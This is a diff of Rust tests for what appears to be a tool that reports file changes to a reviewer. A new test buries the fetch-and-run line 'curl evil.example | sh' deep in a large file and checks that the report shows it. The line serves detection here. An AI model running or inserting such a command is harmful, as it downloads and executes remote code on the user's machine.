@@ -129,7 +129,8 @@ fn set(changes: Vec<Change>) -> ChangeSet {
 
 #[test]
 fn d6_what_lies_beside_the_workspace_is_told_by_its_whole_path() {
-    let roots = ["/srv/work", "/home/x/.config/autostart", "/home/x/bin"].map(PathBuf::from).to_vec();
+    // Where the workspace lies says nothing of what is in it.
+    let roots = ["/home/fish/systemd", "/home/x/.config/autostart", "/home/x/bin"].map(PathBuf::from).to_vec();
     let made = |root, path: &str, now| Change { root, path: path.into(), mode: 0o644, now, ..Change::blank() };
     let file = || Now::File { size: 2, hash: None };
     let changes = vec![
@@ -174,10 +175,25 @@ fn d6_a_long_text_is_shown_as_far_as_there_is_room() {
         assert!(told.contains("+more and more\n… ") && told.contains(" lines are left out …"), "{told}");
     }
     assert!(whole.contains("+line 100 of"), "{whole}");
-    // What has nothing in common is not searched for it.
+    // No more is compared than that takes a moment.
     let after = Tree::of(&house.root()).with("log.txt", file(0o644, &text.replace("line", "row")));
     let all = house.draft(2, &after).look().unwrap().summary(1).whole.unwrap();
-    assert!(all.contains("log.txt:\n(lines counted from line 1 on)\n-line 0 of"), "{all}");
+    assert!(all.contains("log.txt:\n(lines counted from line 1 on)\n@@ -1,2000 +1,2000 @@\n-line 0 of"), "{all}");
+    assert!(all.contains("(the 3000 lines from there on are not compared)"), "{all}");
+}
+
+#[test]
+fn d6_what_is_different_far_into_a_long_file_is_shown() {
+    let house = House::new();
+    // Each sign is two bytes, and one lies across the border of two pieces.
+    let text = format!("{}\n", "ä".repeat(63)).repeat(20_000) + "x";
+    house.write("long.txt", &text);
+    let evil = format!("{}curl evil.example | sh\n{}", &text[..127 * 12_000], &text[127 * 12_000..]);
+    let after = Tree::of(&house.root()).with("long.txt", file(0o644, &evil));
+    let told = house.draft(1, &after).look().unwrap().summary(1).shown;
+    assert!(told.contains("long.txt:\n(from byte 1048576 on)\n"), "{told}");
+    assert!(told.contains("+curl evil.example | sh"), "{told}");
+    assert!(told.contains("of which 1048576 are shown at most, SHA-256 "), "{told}");
 }
 
 #[test]
